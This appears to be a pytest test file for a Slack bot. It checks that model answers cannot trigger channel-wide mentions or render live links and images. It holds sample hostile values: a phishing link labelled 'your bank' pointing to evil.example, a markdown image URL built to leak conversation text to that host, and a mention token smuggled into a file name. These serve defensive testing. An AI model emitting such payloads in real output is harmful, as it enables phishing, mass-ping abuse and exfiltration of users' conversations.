"""Words of the model, and of whoever can make it write some, call nobody and link nowhere; and each finds a form."""

import pytest

from tests.fakes.slack import Channel
from tests.integration.slack.office import Office, ask_in, asked

HOSTILE = (
    "<!channel> <!here|now> <@U0BOSS> <#C0SECRET> <!subteam^S1|@all>\n\n"
    "[your bank](https://evil.example/login) and ![x](https://evil.example/x.png?what=was-said)."
)
PARTS_OF_IT = ("your bank", "https://evil.example/login", "was-said")
CALLS = ("<!channel", "<!here", "<@U0BOSS", "<#C0SECRET", "<!subteam")


def sent_to(office: Office, channel: Channel) -> str:
    """Everything that Slack was ever told about this channel."""
    return "\n".join(str(call.arguments) for call in office.slack.calls if call.arguments.get("channel") == channel.id)


@pytest.mark.parametrize("streamed", [True, False])
def test_an_answer(office: Office, streamed: bool) -> None:
    question = f"Calls {streamed}?"
    _, channel, ts = asked(office, question)
    work = office.take(question)
    if streamed:
        for end in range(5, len(HOSTILE), 40):
            work.say(HOSTILE[max(0, end - 40) : end])
        office.slack.wait_for(lambda: "now" in str(office.slack.seen(channel, ts)), 30)
    work.answer(HOSTILE)
    shown = office.answer_in(channel, ts).text
    office.settled()
    assert all(part in shown for part in PARTS_OF_IT), shown
    told = sent_to(office, channel)
    assert not [call for call in CALLS if call in told]
    assert "](" not in told
    assert "`https://evil.example/login`" in told
    assert len([s for s in office.slack.seen(channel, ts) if s.message.bot_id]) == 1


def test_the_name_of_a_file_and_the_labels_of_boxes(office: Office) -> None:
    ann = office.slack.user("ann")
    im = office.slack.im(ann)
    file = office.slack.file("<!channel>.png", b"no picture", ann)
    ts = ask_in(office, ann, im, "Whom does a name call?", files=[file])
    office.take("Whom does a name call?").answer("Nobody.")
    assert "channel>.png could not be used" in office.answer_in(im, ts).text
    assert "<!channel" not in sent_to(office, im)


def test_markdown_that_slack_does_not_take_is_said_letter_by_letter(office: Office) -> None:
    office.slack.faults.refuse("chat.startStream", "invalid_blocks", 1)
    office.slack.faults.refuse("chat.postMessage", "invalid_blocks", 1)
    _, channel, ts = asked(office, "In what form?")
    office.take("In what form?").answer("|a|b|\n|-|\n" * 300)
    seen = office.answer_in(channel, ts)
    office.settled()
    assert seen.message.blocks[0]["text"]["type"] == "plain_text"
    assert seen.buttons == ("👍", "👎")
    assert len(office.slack.answers(channel, ts)) == 1
